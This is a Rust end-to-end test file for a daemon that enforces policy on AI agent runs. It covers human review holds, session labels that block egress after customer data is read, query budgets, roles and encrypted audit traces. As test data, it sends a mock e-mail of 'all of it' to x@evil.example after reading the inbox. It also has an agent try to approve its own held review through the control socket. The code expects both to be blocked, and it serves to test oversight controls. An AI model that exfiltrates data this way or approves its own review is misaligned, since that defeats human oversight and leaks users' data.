//! Checkpoints, sessions, roles and traces with the real daemon and real clients: the daemon is restarted (once,
//! by whichever of these tests runs first) on a policy the tests write — the e2e policy plus rules for review, session
//! flows, the database role and retained traces — with a review webhook pointed at a receiver the tests run on
//! loopback and a trace recipient whose key `enforcer trace keygen` made. The last test puts the harness's own
//! configuration back.
//!
//! - review: curl held until `enforcer review approve` (forwarded once), `deny` (never reaches the upstream), a
//!   timeout, and an approval through the webhook's signed link;
//! - sessions: a call to the customer database labels the run and later requests elsewhere are blocked; a query
//!   budget per hour; `send_email` outside the company right after `read_inbox`; `enforcer session list` while the
//!   agent runs, and the session gone once it exits;
//! - roles: `sudo enforcer exec` (SUDO_UID/SUDO_GID as sudo sets them) acts for the invoking user and passes a
//!   `groups` condition that a root-launched run fails; a profile the policy keeps from a user is refused by exec;
//! - traces: a retained exchange decrypted with the key and not with another; a swapped trace file caught by
//!   `enforcer audit verify`.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use crate::harness::{self, Curl, Env, AGENT_USER, API_HOST, PROFILE, SERVE_PROFILE};

/// What the first sessions test sets up, kept for the others.
struct Setup {
    /// The harness's own configuration, restored by the last test.
    original: PathBuf,
    config: PathBuf,
    /// The review webhook's receiver.
    receiver: TcpListener,
    /// The trace identity (private key) and another one.
    key: PathBuf,
    other_key: PathBuf,
}

static SETUP: OnceLock<Setup> = OnceLock::new();

/// The agent user's primary group: the role the database rules ask for.
fn agent_group() -> String {
    let out = Command::new("id").args(["-gn", AGENT_USER]).output();
    out.map(|o| String::from_utf8_lossy(&o.stdout).trim().to_owned())
        .unwrap_or_default()
}

fn policy_text(group: &str) -> String {
    let base = std::fs::read_to_string(harness::repo_root().join("tests/e2e/policy.yaml"))
        .unwrap_or_else(|e| panic!("read tests/e2e/policy.yaml: {e}"));
    let base = base.replacen(
        "rules:\n",
        &format!(
            "profiles:\n  {PROFILE}: {{}}\n  {SERVE_PROFILE}: {{ groups: [{group}] }}\nrules:\n"
        ),
        1,
    );
    format!(
        r#"{base}
  - id: s-review
    when: {{ host: {API_HOST}, path: "/review/held/**" }}
    verdict: review
    review: {{ timeout: 60s, fallback: block }}
    message: this call needs a person's approval
  - id: s-review-quick
    when: {{ host: {API_HOST}, path: "/review/quick/**" }}
    verdict: review
    review: {{ timeout: 2s, fallback: block }}
  - id: s-crm
    description: a call to the customer database marks the run
    when: {{ host: {API_HOST}, path: "/crm/**" }}
    verdict: log
    label: customer-data
  - id: s-public
    when: {{ host: {API_HOST}, path: "/public/**" }}
    verdict: allow
  - id: s-no-egress-after-customer-data
    when: {{ session.labels: customer-data, not: {{ path: "/crm/**" }} }}
    verdict: block
    message: this agent run has read customer data
  - id: s-sql
    when: {{ host: {API_HOST}, path: "/sql/**" }}
    verdict: log
    count: {{ sql_queries: 1 }}
  - id: s-sql-budget
    when: {{ host: {API_HOST}, path: "/sql/**", session.count: {{ sql_queries: {{ gt: 3, within: 1h }} }} }}
    verdict: block
    message: at most 3 queries an hour
  - id: s-mail
    when: {{ host: {API_HOST}, path: "/mcp/**" }}
    verdict: log
  - id: s-no-external-mail-after-inbox
    when:
      mcp.tool: send_email
      session.previous_tool: read_inbox
      mcp.args: {{ "$.to": {{ not_matches: "(?i)^[^@,;\\s]+@example\\.com$" }} }}
    verdict: block
    message: e-mail outside the company right after reading the inbox is not allowed
  - id: s-db-role
    when: {{ host: {API_HOST}, path: "/db/**", groups: {group} }}
    verdict: log
  - id: s-db-needs-role
    when: {{ host: {API_HOST}, path: "/db/**", not: {{ groups: {group} }} }}
    verdict: block
    message: database queries need the {group} role
  - id: s-traced
    when: {{ host: {API_HOST}, path: "/traced/**" }}
    verdict: log
    retain: true
"#
    )
}

fn enforcer(args: &[&str]) -> (i32, String, String) {
    let mut cmd = Command::new(harness::enforcer_bin());
    cmd.args(args);
    harness::output(cmd)
}

/// Restart the daemon on the sessions configuration (made once).
fn setup(env: &mut Env) -> &'static Setup {
    env.need_daemon();
    if let Some(s) = SETUP.get() {
        if env.config != s.config {
            env.restart_daemon(s.config.clone())
                .unwrap_or_else(|e| panic!("restart on the sessions configuration: {e}"));
        }
        return s;
    }
    let dir = env.dir.path().to_path_buf();
    let key = dir.join("trace.key");
    let other_key = dir.join("other.key");
    let mut recipient = String::new();
    for (path, keep) in [(&key, true), (&other_key, false)] {
        let _ = std::fs::remove_file(path);
        let p = path.display().to_string();
        let (code, out, err) = enforcer(&["trace", "keygen", "--out", &p]);
        assert_eq!(code, 0, "trace keygen: {err}");
        assert!(out.trim().starts_with("age1"), "{out}");
        if keep {
            recipient = out.trim().to_owned();
        }
    }
    let policy = dir.join("sessions-policy.yaml");
    std::fs::write(&policy, policy_text(&agent_group())).unwrap_or_else(|e| panic!("{e}"));
    let config = env
        .config_with_policy(&policy, "enforcer-sessions.yaml")
        .unwrap_or_else(|e| panic!("{e}"));
    let receiver = TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
    let links = harness::free_port().unwrap_or_else(|e| panic!("{e}"));
    // The agent user's group is the control group: a person who answers reviews and runs agents as themselves.
    let extra = format!(
        "review:\n  webhook:\n    url: \"http://127.0.0.1:{}/hook\"\n    name: e2e-hook\n    listen: \"127.0.0.1:{links}\"\n\
         traces:\n  recipient: {recipient}\ncontrol:\n  group: {}\n",
        receiver.local_addr().map(|a| a.port()).unwrap_or(0),
        agent_group(),
    );
    let base = std::fs::read_to_string(&config).unwrap_or_default();
    // The configuration this one is derived from (the SDK tests', when they ran first) may have its own.
    let mut yaml = without_sections(&base, &["review:", "traces:", "control:"]);
    yaml.push_str(&extra);
    std::fs::write(&config, yaml).unwrap_or_else(|e| panic!("{e}"));
    let original = env.config.clone();
    env.restart_daemon(config.clone())
        .unwrap_or_else(|e| panic!("restart on the sessions configuration: {e}"));
    let _ = SETUP.set(Setup {
        original,
        config,
        receiver,
        key,
        other_key,
    });
    SETUP.get().unwrap_or_else(|| panic!("setup"))
}

/// `yaml` without its top-level `sections` (each line naming one, and the indented lines under it).
fn without_sections(yaml: &str, sections: &[&str]) -> String {
    let mut out = String::new();
    let mut skipping = false;
    for line in yaml.lines() {
        if !line.starts_with([' ', '\t']) {
            skipping = sections.iter().any(|s| line.starts_with(s));
        }
        if !skipping {
            out.push_str(line);
            out.push('\n');
        }
    }
    out
}

fn cfg(env: &Env) -> String {
    env.config.display().to_string()
}

fn url(path: &str) -> String {
    format!("https://{API_HOST}{path}")
}

/// `curl` as the tagged agent, in the background; joined for its result.
fn curl_in_background(env: &Env, args: Vec<String>) -> std::thread::JoinHandle<Curl> {
    let mut cmd = env.exec_command();
    cmd.arg("curl");
    std::thread::spawn(move || {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        harness::curl_with(cmd, &args)
    })
}

/// Poll `enforcer review list --json` until a review of `path` is pending; its id.
fn pending_review(env: &Env, path: &str) -> u64 {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let (code, out, err) = enforcer(&["review", "list", "--json", "--config", &cfg(env)]);
        assert_eq!(code, 0, "review list: {err}");
        let list: serde_json::Value = serde_json::from_str(&out).unwrap_or_default();
        if let Some(p) = list
            .as_array()
            .and_then(|l| l.iter().find(|p| p["request"]["path"] == path))
        {
            return p["id"].as_u64().unwrap_or_else(|| panic!("{p}"));
        }
        assert!(
            Instant::now() < deadline,
            "no review of {path} pending: {out}"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

fn resolve(env: &Env) -> String {
    env.resolve(API_HOST, 443, false)
}

pub fn review_approved_through_the_cli_is_forwarded_once(env: &mut Env) {
    setup(env);
    let path = super::unique("/review/held", "approve");
    let client = curl_in_background(env, vec!["--resolve".into(), resolve(env), url(&path)]);
    let id = pending_review(env, &path);
    assert_eq!(env.upstream_count(&path), 0, "forwarded before approval");
    let (code, shown, err) = enforcer(&["review", "show", &id.to_string(), "--config", &cfg(env)]);
    assert_eq!(code, 0, "{err}");
    assert!(shown.contains("s-review"), "{shown}");
    let (code, out, err) = enforcer(&[
        "review",
        "approve",
        &id.to_string(),
        "--reason",
        "checked the diff",
        "--config",
        &cfg(env),
    ]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(out.trim(), format!("review {id} approved"));
    let got = client.join().unwrap_or_else(|_| panic!("curl thread"));
    assert_eq!((got.code, got.status), (0, 200), "{got:?}");
    assert_eq!(env.upstream_count(&path), 1, "forwarded exactly once");
    let recs = super::records_for(env, &path);
    assert_eq!(recs.len(), 2, "{recs:#?}");
    assert_eq!(recs[0]["seq"], id);
    super::assert_record(&recs[0], "review", Some("s-review"), "held");
    super::assert_record(&recs[1], "review", Some("s-review"), "forwarded");
    let r = &recs[1]["review"];
    assert_eq!(r["held_seq"], id, "{r}");
    assert_eq!(r["result"], "approved");
    assert_eq!(
        r["by"],
        serde_json::json!({"via": "cli", "uid": 0, "name": "root"})
    );
    assert_eq!(r["reason"], "checked the diff");
    env.assert_audit_verifies();
}

pub fn review_denied_never_reaches_the_upstream_and_times_out_to_a_block(env: &mut Env) {
    setup(env);
    let path = super::unique("/review/held", "deny");
    let client = curl_in_background(env, vec!["--resolve".into(), resolve(env), url(&path)]);
    let id = pending_review(env, &path);
    let (code, _, err) = enforcer(&[
        "review",
        "deny",
        &id.to_string(),
        "--reason",
        "not now",
        "--config",
        &cfg(env),
    ]);
    assert_eq!(code, 0, "{err}");
    let got = client.join().unwrap_or_else(|_| panic!("curl thread"));
    assert_eq!(got.status, 403, "{got:?}");
    assert!(
        got.body
            .contains("this call needs a person's approval: denied by a reviewer: not now"),
        "{got:?}"
    );
    assert_eq!(env.upstream_count(&path), 0);
    let recs = super::records_for(env, &path);
    assert_eq!(recs[1]["outcome"]["error"], "review_denied", "{recs:#?}");
    assert_eq!(recs[1]["review"]["result"], "denied");

    // Nobody answers: after its 2 s timeout the fallback (block) applies.
    let path = super::unique("/review/quick", "timeout");
    let got = env.curl_tagged(&["--resolve", &resolve(env), &url(&path)]);
    assert_eq!(got.status, 403, "{got:?}");
    assert!(got.body.contains("nobody approved it in time"), "{got:?}");
    assert_eq!(env.upstream_count(&path), 0);
    let recs = super::records_for(env, &path);
    assert_eq!(recs.len(), 2, "{recs:#?}");
    assert_eq!(recs[1]["outcome"]["error"], "review_timeout");
    assert_eq!(recs[1]["review"]["carried_out"], "block");

    // The review commands are for root and the control group only.
    let mut cmd = Command::new("runuser");
    cmd.args(["-u", "nobody", "--"])
        .arg(harness::enforcer_bin())
        .args(["review", "list", "--config", &cfg(env)]);
    let (code, _, err) = harness::output(cmd);
    assert_ne!(code, 0, "an unprivileged user listed the reviews");
    assert!(err.to_lowercase().contains("permission denied"), "{err}");
}

/// Ask the control socket, as a tagged agent launched by `exec` (`argv`), to approve review `id`; its answer line.
fn approve_from(env: &Env, mut exec: Command, id: u64) -> String {
    let socket = env.dir.path().join("state").join("control.sock");
    exec.args([
        "python3",
        "-c",
        // The daemon answers once and closes; a broken pipe would only mean it closed first.
        "import socket,sys\ns=socket.socket(socket.AF_UNIX)\ns.connect(sys.argv[1])\n\
         s.sendall(('{\"request\":\"review_answer\",\"id\":%s,\"approve\":true}\\n' % sys.argv[2]).encode())\n\
         print(s.makefile().readline())",
    ])
    .arg(&socket)
    .arg(id.to_string());
    let (code, out, err) = harness::output(exec);
    assert_eq!(code, 0, "{out}{err}");
    out
}

/// An agent cannot answer its own review: run as a member of `control.group` (who may answer reviews from outside
/// an agent's cgroup) or as root, the agent's `review_answer` is refused by the control socket, recorded once with
/// reason `control_from_agent`, and the held request stays held until a person outside answers.
pub fn review_cannot_be_answered_by_the_agent_it_holds(env: &mut Env) {
    setup(env);
    let path = super::unique("/review/held", "self-approve");
    let client = curl_in_background(env, vec!["--resolve".into(), resolve(env), url(&path)]);
    let id = pending_review(env, &path);
    let before = env.audit_records().len();

    // The agent's own user is in control.group; root without capabilities is let in by uid. Neither is answered.
    let as_user = approve_from(env, env.exec_command(), id);
    let mut as_root = Command::new(harness::enforcer_bin());
    as_root
        .args([
            "exec",
            "--config",
            &cfg(env),
            "--profile",
            PROFILE,
            "--allow-root",
            "--",
        ])
        .env("PATH", "/usr/bin:/bin");
    let as_root = approve_from(env, as_root, id);
    for answer in [&as_user, &as_root] {
        assert!(
            answer.contains("\"ok\":false")
                && answer.contains("the control socket does not answer agents")
                && answer.contains(&format!("profile {PROFILE}")),
            "{answer}"
        );
    }
    assert_eq!(
        pending_review(env, &path),
        id,
        "the review is still pending"
    );
    assert_eq!(
        env.upstream_count(&path),
        0,
        "forwarded on the agent's word"
    );

    // One record each, under the agent's identity.
    let refused: Vec<serde_json::Value> = env.audit_records()[before..]
        .iter()
        .filter(|r| r["decision"]["reason"] == "control_from_agent")
        .cloned()
        .collect();
    assert_eq!(refused.len(), 2, "{refused:#?}");
    for (rec, uid) in refused.iter().zip([env.agent_uid, 0]) {
        assert_eq!(rec["decision"]["verdict"], "block", "{rec}");
        assert_eq!(rec["request"]["method"], "review_answer", "{rec}");
        assert_eq!(rec["request"]["count"], 1, "{rec}");
        assert_eq!(rec["outcome"]["disposition"], "blocked", "{rec}");
        assert_eq!(rec["outcome"]["error"], "control_from_agent", "{rec}");
        assert_eq!(rec["agent"]["profile"], PROFILE, "{rec}");
        assert_eq!(rec["agent"]["uid"], uid, "{rec}");
    }

    // The same user outside any agent's cgroup is a reviewer: the answer is taken.
    let mut cmd = Command::new("runuser");
    cmd.args(["-u", AGENT_USER, "--"])
        .arg(harness::enforcer_bin())
        .args(["review", "deny", &id.to_string(), "--config", &cfg(env)]);
    let (code, out, err) = harness::output(cmd);
    assert_eq!(code, 0, "{out}{err}");
    let got = client.join().unwrap_or_else(|_| panic!("curl thread"));
    assert_eq!(got.status, 403, "{got:?}");
    assert_eq!(env.upstream_count(&path), 0);
    let recs = super::records_for(env, &path);
    assert_eq!(recs[1]["review"]["result"], "denied", "{recs:#?}");
    env.assert_audit_verifies();
}

/// Answer the webhook POSTs arriving at `receiver` (every held review is announced) until the one about `path`;
/// its body.
fn receive_webhook(receiver: &TcpListener, path: &str) -> serde_json::Value {
    receiver.set_nonblocking(true).ok();
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let stream = match receiver.accept() {
            Ok((s, _)) => s,
            Err(_) if Instant::now() < deadline => {
                std::thread::sleep(Duration::from_millis(50));
                continue;
            }
            Err(e) => panic!("no webhook POST about {path} arrived: {e}"),
        };
        let body = read_post(stream);
        let v: serde_json::Value =
            serde_json::from_str(&body).unwrap_or_else(|e| panic!("{e}: {body}"));
        if v["review"]["request"]["path"] == path {
            return v;
        }
    }
}

/// One HTTP/1.1 POST to `/hook`, answered 200; its body.
fn read_post(mut stream: std::net::TcpStream) -> String {
    stream.set_nonblocking(false).ok();
    stream.set_read_timeout(Some(Duration::from_secs(10))).ok();
    let mut reader = BufReader::new(stream.try_clone().unwrap_or_else(|e| panic!("{e}")));
    let mut length = 0usize;
    let mut first = String::new();
    reader.read_line(&mut first).unwrap_or_default();
    assert!(first.starts_with("POST /hook "), "{first}");
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
            break;
        }
        if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
            length = v.trim().parse().unwrap_or(0);
        }
    }
    let mut body = vec![0u8; length];
    reader
        .read_exact(&mut body)
        .unwrap_or_else(|e| panic!("{e}"));
    let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
    String::from_utf8_lossy(&body).into_owned()
}

pub fn review_approved_through_the_webhook_link(env: &mut Env) {
    let s = setup(env);
    let path = super::unique("/review/held", "webhook");
    let secret = "sk-e2e-webhook-secret-4711";
    let client = curl_in_background(
        env,
        vec![
            "--resolve".into(),
            resolve(env),
            "-H".into(),
            format!("authorization: Bearer {secret}"),
            "-d".into(),
            format!("{{\"prompt\":\"{secret}\"}}"),
            url(&path),
        ],
    );
    let v = receive_webhook(&s.receiver, &path);
    assert!(
        !v.to_string().contains(secret),
        "a secret in the webhook: {v}"
    );
    assert_eq!(v["review"]["rule"], "s-review");
    let id = v["review"]["id"].as_u64().unwrap_or_else(|| panic!("{v}"));
    let (approve, deny) = (
        v["approve"].as_str().unwrap_or_default().to_owned(),
        v["deny"].as_str().unwrap_or_default().to_owned(),
    );
    // Opening a link (GET, as a link preview would) answers nothing.
    let page = env.curl_untagged(&[&deny]);
    assert_eq!(page.status, 200, "{page:?}");
    assert!(page.body.contains("<form method=post>"), "{page:?}");
    // A link changed into the other action is refused.
    let forged = env.curl_untagged(&["-X", "POST", &deny.replace("/deny?", "/approve?")]);
    assert_eq!(forged.status, 403, "{forged:?}");
    assert_eq!(pending_review(env, &path), id, "still pending");
    let answered = env.curl_untagged(&[
        "-X",
        "POST",
        "-d",
        "reason=fine by chat&approver=carol",
        &approve,
    ]);
    assert_eq!(answered.status, 200, "{answered:?}");
    assert!(
        answered.body.contains(&format!("review {id} approved")),
        "{answered:?}"
    );
    let got = client.join().unwrap_or_else(|_| panic!("curl thread"));
    assert_eq!(got.status, 200, "{got:?}");
    assert_eq!(env.upstream_count(&path), 1);
    let recs = super::records_for(env, &path);
    let by = &recs[1]["review"]["by"];
    assert_eq!(
        *by,
        serde_json::json!({"via": "webhook", "webhook": "e2e-hook", "claimed_by": "carol"}),
        "{recs:#?}"
    );
    assert_eq!(recs[1]["review"]["reason"], "fine by chat");
}

/// Run `script` in `sh -c` as one tagged agent run (one session); its stdout lines.
fn run_agent(env: &Env, script: &str) -> Vec<String> {
    let (code, out, err) = env.exec_tagged(&["sh", "-c", script]);
    assert_eq!(code, 0, "{err}\n{out}");
    out.lines().map(str::to_owned).collect()
}

fn curl_line(env: &Env, extra: &str, path: &str) -> String {
    format!(
        "curl -sS -o /dev/null -w '%{{http_code}}\\n' --resolve {} {extra} {}",
        resolve(env),
        url(path)
    )
}

pub fn session_customer_data_then_no_egress(env: &mut Env) {
    setup(env);
    let (public1, crm, public2) = (
        super::unique("/public", "before"),
        super::unique("/crm", "customers"),
        super::unique("/public", "after"),
    );
    let script = [
        curl_line(env, "", &public1),
        curl_line(env, "", &crm),
        curl_line(env, "", &public2),
    ]
    .join("; ");
    assert_eq!(run_agent(env, &script), ["200", "200", "403"]);
    assert_eq!(env.upstream_count(&public2), 0);
    // A new run starts with a clean session.
    assert_eq!(run_agent(env, &curl_line(env, "", &public2)), ["200"]);
    let crm_rec = &super::records_for(env, &crm)[0];
    assert_eq!(
        crm_rec["decision"]["labels"],
        serde_json::json!(["customer-data"])
    );
    let blocked = &super::records_for(env, &public2)[0];
    assert_eq!(
        blocked["decision"]["rule"],
        "s-no-egress-after-customer-data"
    );
    assert_eq!(blocked["agent"]["session"], crm_rec["agent"]["session"]);
    assert!(blocked["agent"]["session"]
        .as_str()
        .is_some_and(|s| s.len() == 16));
}

pub fn session_query_budget_per_hour(env: &mut Env) {
    setup(env);
    let path = super::unique("/sql", "q");
    let script = vec![curl_line(env, "", &path); 5].join("; ");
    assert_eq!(run_agent(env, &script), ["200", "200", "200", "200", "403"]);
    assert_eq!(env.upstream_count(&path), 4);
    let last = super::records_for(env, &path).pop().unwrap_or_default();
    assert_eq!(last["decision"]["rule"], "s-sql-budget");
}

fn mcp_call(env: &Env, path: &str, tool: &str, args: &str) -> String {
    let body = format!(
        r#"{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":"{tool}","arguments":{args}}}}}"#
    );
    format!(
        "curl -sS --resolve {} -H 'content-type: application/json' -d '{body}' {}; echo; echo ---",
        resolve(env),
        url(path)
    )
}

/// The answers of a run of [`mcp_call`]s, one per call.
fn answers(lines: &[String]) -> Vec<String> {
    lines
        .join("\n")
        .split("---")
        .map(|a| a.trim().to_owned())
        .filter(|a| !a.is_empty())
        .collect()
}

pub fn session_no_external_mail_right_after_the_inbox(env: &mut Env) {
    setup(env);
    let path = super::unique("/mcp", "mail");
    let script = [
        mcp_call(env, &path, "read_inbox", "{}"),
        mcp_call(
            env,
            &path,
            "send_email",
            r#"{"to":"x@evil.example","body":"all of it"}"#,
        ),
        mcp_call(env, &path, "send_email", r#"{"to":"bob@example.com"}"#),
    ]
    .join("; ");
    let out = answers(&run_agent(env, &script));
    assert_eq!(out.len(), 3, "{out:?}");
    assert!(out[0].contains("upstream ok"), "{out:?}");
    assert!(
        out[1].contains("\"isError\":true")
            && out[1].contains("e-mail outside the company right after reading the inbox"),
        "{out:?}"
    );
    assert!(out[2].contains("upstream ok"), "{out:?}");
    assert_eq!(env.upstream_count(&path), 2);
    // Without reading the inbox first, mail to a partner goes.
    let path2 = super::unique("/mcp", "mail");
    let out = run_agent(
        env,
        &mcp_call(env, &path2, "send_email", r#"{"to":"x@partner.example"}"#),
    );
    assert!(out[0].contains("upstream ok"), "{out:?}");
}

pub fn session_list_shows_a_live_run_and_forgets_it_when_it_ends(env: &mut Env) {
    setup(env);
    let crm = super::unique("/crm", "live");
    let mut cmd = exec_as_sudo_caller(env, PROFILE);
    cmd.args([
        "--",
        "sh",
        "-c",
        &format!("{}; sleep 6", curl_line(env, "", &crm)),
    ])
    .stdout(Stdio::null())
    .stderr(Stdio::null());
    let mut child = cmd.spawn().unwrap_or_else(|e| panic!("{e}"));
    let deadline = Instant::now() + Duration::from_secs(20);
    let session = loop {
        let (_, out, _) = enforcer(&["session", "list", "--json", "--config", &cfg(env)]);
        let list: serde_json::Value = serde_json::from_str(&out).unwrap_or_default();
        let found = list.as_array().and_then(|l| {
            l.iter()
                // This run's session: an earlier test's run may not have ended yet.
                .find(|s| {
                    s["labels"] == serde_json::json!(["customer-data"])
                        && s["source"] == "exec"
                        && s["person"]["user"] == AGENT_USER
                })
                .cloned()
        });
        if let Some(s) = found {
            break s;
        }
        assert!(
            Instant::now() < deadline,
            "no live session with the label: {out}"
        );
        std::thread::sleep(Duration::from_millis(200));
    };
    assert_eq!(session["person"]["user"], AGENT_USER, "{session}");
    assert_eq!(session["profile"], PROFILE);
    assert_eq!(session["counters"]["requests"], 1);
    let id = session["id"].as_str().unwrap_or_default().to_owned();
    let (code, shown, err) = enforcer(&["session", "show", &id, "--json", "--config", &cfg(env)]);
    assert_eq!(code, 0, "{err}");
    assert!(shown.contains(&id), "{shown}");
    let rec = &super::records_for(env, &crm)[0];
    assert_eq!(rec["agent"]["session"], id.as_str());
    assert_eq!(rec["agent"]["user"], AGENT_USER);
    let _ = child.wait();
    let deadline = Instant::now() + Duration::from_secs(15);
    loop {
        let (code, _, err) = enforcer(&["session", "show", &id, "--config", &cfg(env)]);
        if code != 0 && err.contains("no live session") {
            break;
        }
        assert!(Instant::now() < deadline, "the session outlived its run");
        std::thread::sleep(Duration::from_millis(250));
    }
}

/// `enforcer exec --profile P` as `sudo enforcer exec` runs it for the agent user: SUDO_UID/SUDO_GID set.
fn exec_as_sudo_caller(env: &Env, profile: &str) -> Command {
    let mut cmd = Command::new(harness::enforcer_bin());
    cmd.arg("exec")
        .arg("--config")
        .arg(&env.config)
        .args(["--profile", profile]);
    let mut cmd = env.agent_command(cmd);
    cmd.env("SUDO_UID", env.agent_uid.to_string())
        .env("SUDO_GID", env.agent_gid.to_string())
        .env("SUDO_USER", AGENT_USER);
    cmd
}

pub fn role_of_the_sudo_caller_decides_and_profiles_are_restricted(env: &mut Env) {
    setup(env);
    let group = agent_group();
    let path = super::unique("/db", "query");
    // Under sudo: acting for the invoking user, whose group has the role.
    let mut cmd = exec_as_sudo_caller(env, PROFILE);
    cmd.args(["--", "curl"]);
    let got = harness::curl_with(cmd, &["--resolve", &resolve(env), &url(&path)]);
    assert_eq!(got.status, 200, "{got:?}");
    let rec = &super::records_for(env, &path)[0];
    assert_eq!(rec["agent"]["user"], AGENT_USER, "{rec}");
    assert!(super::mentions(&rec["agent"]["groups"], &group), "{rec}");
    assert_eq!(rec["decision"]["rule"], "s-db-role");

    // Launched by root for the same account (--user): acting for root, who lacks the role.
    let path = super::unique("/db", "query");
    let got = env.curl_tagged(&["--resolve", &resolve(env), &url(&path)]);
    assert_eq!(got.status, 403, "{got:?}");
    assert!(
        got.body
            .contains(&format!("database queries need the {group} role")),
        "{got:?}"
    );
    let rec = &super::records_for(env, &path)[0];
    assert_eq!(rec["agent"]["user"], "root", "{rec}");
    assert_eq!(env.upstream_count(&path), 0);

    // The policy keeps the serving profile to the agent user's group: root's run is refused by exec itself.
    let (code, out, err) = harness::output({
        let mut c = env.exec_command_in(SERVE_PROFILE);
        c.arg("true");
        c
    });
    assert_ne!(code, 0, "{out}");
    assert!(err.contains("the policy keeps profile"), "{err}");
    let mut cmd = exec_as_sudo_caller(env, SERVE_PROFILE);
    cmd.args(["--", "true"]);
    let (code, _, err) = harness::output(cmd);
    assert_eq!(code, 0, "{err}");
}

fn retained_record(env: &Env, of: u64) -> serde_json::Value {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        if let Some(r) = env
            .audit_records()
            .into_iter()
            .find(|r| r["outcome"]["disposition"] == "retained" && r["trace"]["of"] == of)
        {
            return r;
        }
        assert!(Instant::now() < deadline, "no trace record for {of}");
        std::thread::sleep(Duration::from_millis(100));
    }
}

pub fn trace_decrypts_with_its_key_only_and_a_swap_is_caught(env: &mut Env) {
    let s = setup(env);
    let (a, b) = (super::unique("/traced", "a"), super::unique("/traced", "b"));
    let script = [
        curl_line(env, "-d '{\"thinking\":\"marker-alpha\"}'", &a),
        curl_line(env, "-d '{\"thinking\":\"marker-beta\"}'", &b),
    ]
    .join("; ");
    assert_eq!(run_agent(env, &script), ["200", "200"]);
    let of_a = super::records_for(env, &a)[0]["seq"]
        .as_u64()
        .unwrap_or_default();
    let of_b = super::records_for(env, &b)[0]["seq"]
        .as_u64()
        .unwrap_or_default();
    let (rec_a, rec_b) = (retained_record(env, of_a), retained_record(env, of_b));
    let audit = env.audit_dir.display().to_string();
    let show = |of: u64, key: &PathBuf| {
        enforcer(&[
            "trace",
            "show",
            &of.to_string(),
            "--identity",
            &key.display().to_string(),
            "--audit-dir",
            &audit,
        ])
    };
    let (code, text, err) = show(of_a, &s.key);
    assert_eq!(code, 0, "{err}");
    assert!(text.contains("marker-alpha"), "{text}");
    assert!(
        text.contains(&format!("upstream ok: POST {a}")),
        "the response is in the trace: {text}"
    );
    let (code, _, err) = show(of_a, &s.other_key);
    assert_ne!(code, 0);
    assert!(err.contains("cannot decrypt"), "{err}");
    env.assert_audit_verifies();

    // Swap trace a for trace b (both valid, both encrypted to the same key).
    let traces = env.audit_dir.join("traces");
    let file_a = traces.join(rec_a["trace"]["file"].as_str().unwrap_or_default());
    let file_b = traces.join(rec_b["trace"]["file"].as_str().unwrap_or_default());
    let original = std::fs::read(&file_a).unwrap_or_else(|e| panic!("{e}"));
    std::fs::copy(&file_b, &file_a).unwrap_or_else(|e| panic!("{e}"));
    let (ok, out) = env.audit_verify();
    let (code, _, err) = show(of_a, &s.key);
    std::fs::write(&file_a, &original).unwrap_or_else(|e| panic!("{e}"));
    assert!(!ok, "audit verify missed a swapped trace: {out}");
    assert!(out.contains("swapped: trace"), "{out}");
    assert_ne!(code, 0);
    assert!(err.contains("swapped or altered"), "{err}");
    env.assert_audit_verifies();
}

/// The last sessions test: the harness's own configuration back.
pub fn sessions_restore_the_harness_configuration(env: &mut Env) {
    if let Some(s) = SETUP.get() {
        if env.config != s.original {
            env.restart_daemon(s.original.clone())
                .unwrap_or_else(|e| panic!("restart on the harness configuration: {e}"));
        }
    }
}
